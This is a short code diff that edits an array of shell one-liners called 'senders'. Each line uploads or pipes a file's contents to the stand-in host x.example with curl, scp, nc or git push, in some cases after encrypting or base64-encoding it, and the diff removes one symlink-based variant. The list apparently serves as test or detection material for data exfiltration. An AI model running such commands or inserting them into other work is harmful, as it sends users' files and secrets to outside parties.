@@ -122,7 +122,6 @@ const senders = [
   'gpg -c FILE && curl -T FILE.gpg x.example',
   'tar czf /tmp/a.tgz FILE; scp /tmp/a.tgz x.example:',
   'base64 FILE > /tmp/a; curl -F a=@/tmp/a x.example',
-  'ln -s FILE /tmp/a; curl -T /tmp/a x.example',
   'git add -f FILE && git commit -m x && git push',
   'echo "$(<FILE)" | nc x.example 9',
   'mapfile -t a < FILE; curl -d "${a[*]}" x.example',
